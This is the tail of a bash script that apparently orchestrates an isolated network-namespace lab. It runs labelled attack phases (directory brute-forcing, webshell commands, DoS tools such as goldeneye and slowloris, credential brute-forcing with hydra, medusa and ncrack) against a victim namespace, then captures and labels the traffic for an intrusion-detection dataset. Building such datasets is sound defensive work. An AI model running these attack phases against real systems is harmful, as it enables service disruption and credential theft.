set_phase dirb WebAttack "dirb" "$ATTACKER"
set_phase webshell WebAttack "webshell commands (curl)" "$ATTACKER"

run_phase() {
  local key=$1 s e
  log "phase $key (${LABEL[$key]}: ${TOOL[$key]}) start"
  s=$(now); "phase_$key"; sleep $DRAIN; e=$(now)
  rec "$key" "${LABEL[$key]}" "${TOOL[$key]}" "${SRC[$key]}" "$s" "$e"
  log "phase $key done ($(awk "BEGIN{printf \"%.1f\", $e-$s}") s)"
  sleep $GAP
}

# ----------------------------------------------------------------- main
install_pkgs
prepare_content; write_helpers
teardown
rm -f "$OUT"/*.pcap "$OUT"/*.pcap.gz "$OUT"/labels.csv "$ROWS"
trap 'log "interrupted"; teardown; exit 130' INT TERM
setup_net; safety_check; start_servers

ip netns exec tl-victim tcpdump -i eth0 -s 0 -B 65536 -n -Z root -w "$OUT/lab.pcap" > "$RUN/tcpdump.out" 2>&1 &
TCPDUMP_PID=$!
sleep 2
BG_PID=""
for ph in $PHASES; do
  [ -n "${LABEL[$ph]:-}" ] || { log "unknown phase $ph"; continue; }
  run_phase "$ph"
  if [ "$ph" = benign ] && [ -z "$BG_PID" ]; then   # a low-rate benign background from the client during the attacks
    BG_S=$(now); nsx tl-client timeout 900 bash "$RUN/users.sh" 880 600 8 >/dev/null 2>&1 & BG_PID=$!
  fi
done
if [ -n "$BG_PID" ]; then
  kill $BG_PID 2>/dev/null; for p in $(ip netns pids tl-client); do kill "$p" 2>/dev/null; done
  sleep 2; rec background BENIGN "client background (users.sh)" "$CLIENT" "$BG_S" "$(now)"
fi
sleep 1
kill -TERM $TCPDUMP_PID 2>/dev/null
for _ in $(seq 1 40); do kill -0 $TCPDUMP_PID 2>/dev/null || break; sleep 0.25; done
wait $TCPDUMP_PID 2>/dev/null
log "capture stopped: $(grep -E 'captured|dropped' "$RUN/tcpdump.out" | tr '\n' ' ')"
teardown
log "namespaces removed"

{ echo "# lab-tools.sh labels (victim $VICTIM, captured on the victim's eth0). Rule: a flow whose first packet is at t gets the label"
  echo "# of the row with start_epoch <= t <= end_epoch whose src_ip is one of its endpoints (src_ip '*': neither endpoint is the"
  echo "# benign client $CLIENT); else BENIGN. Windows include a ${DRAIN} s drain after the tool ends. Times: UTC epoch seconds."
  echo "phase,label,tool,src_ip,start_epoch,end_epoch"
  while IFS=$'\t' read -r key label tool src s e; do echo "$key,$label,\"$tool\",$src,$s,$e"; done < "$ROWS"; } > "$OUT/labels.csv"
awk -F'\t' '$1!="background"{print $1"\t"$5"\t"$6}' "$ROWS" | while IFS=$'\t' read -r key s e; do
  editcap -F pcap -A "$s" -B "$e" "$OUT/lab.pcap" "$OUT/phase-$key.pcap" 2>>"$RUN/editcap.log" && gzip -9nf "$OUT/phase-$key.pcap"
done
{ for f in "$OUT"/phase-*.pcap.gz; do printf '%s %s packets\n' "$(basename "$f")" "$(zcat "$f" | tcpdump -nn -r - 2>/dev/null | wc -l)"; done
  grep -hE 'requests=|sockets=' "$RUN"/goldeneye.log "$RUN"/slowloris.log 2>/dev/null
  grep -h 'login:' "$RUN"/hydra-*.log "$RUN"/medusa-ftp.log 2>/dev/null | head; grep -h 'Discovered credentials' -A2 "$RUN"/ncrack-ssh.log 2>/dev/null
} > "$OUT/summary.txt"
rm -f "$OUT/lab.pcap"
log "done: $OUT (labels.csv, phase-*.pcap.gz, summary.txt)"
